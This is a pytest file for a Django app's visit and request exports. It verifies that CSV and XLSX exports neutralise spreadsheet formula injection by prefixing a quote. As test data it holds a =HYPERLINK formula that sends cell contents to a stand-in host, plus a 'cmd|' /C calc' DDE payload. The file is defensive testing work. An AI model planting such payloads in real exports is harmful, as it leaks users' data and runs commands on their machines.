"""Exports never hand a spreadsheet a live formula (issue 8, OWASP "CSV injection")."""

import csv
import io

import openpyxl
import pytest

from espoo_intl.testing import body
from visits.tests.factories import VisitFactory

from .request_factories import VisitRequestFactory

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://x/?"&A1,"Click")'


def sheet(response):
    assert response.status_code == 200
    return openpyxl.load_workbook(io.BytesIO(body(response))).active


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(body(response).decode("utf-8-sig"))))


def test_a_formula_title_is_text_in_the_xlsx_export(client_for, kv):
    VisitFactory(title=HOSTILE, group_size=12)
    ws = sheet(client_for(kv).get("/visits/?_export=xlsx"))
    cells = [c for row in ws.iter_rows(min_row=2) for c in row if c.value is not None]
    title = next(c for c in cells if isinstance(c.value, str) and HOSTILE in c.value)
    assert title.data_type == "s"
    assert title.value == "'" + HOSTILE
    assert not any(c.data_type == "f" for c in cells)
    # Numeric cells stay numbers.
    assert any(c.value == 12 and c.data_type == "n" for c in cells)


def test_a_formula_title_starts_with_a_quote_in_the_csv_export(client_for, kv):
    VisitFactory(title=HOSTILE)
    cells = [
        cell for row in csv_rows(client_for(kv).get("/visits/?_export=csv"))[1:] for cell in row
    ]
    assert "'" + HOSTILE in cells
    assert HOSTILE not in cells


@pytest.mark.parametrize("start", ["+", "-", "@", "\t", "\r"])
def test_every_trigger_character_is_neutralised_in_the_request_export(client_for, kv, start):
    VisitRequestFactory(subject=f"{start}cmd|' /C calc'!A0")
    rows = csv_rows(client_for(kv).get("/requests/?_export=csv"))
    assert f"'{start}cmd|' /C calc'!A0" in [cell for row in rows[1:] for cell in row]


def test_only_the_offered_formats_export(client_for, kv):
    VisitFactory(title=HOSTILE)
    response = client_for(kv).get("/visits/?_export=latex")
    assert response.status_code == 200
    assert "attachment" not in response.get("Content-Disposition", "")
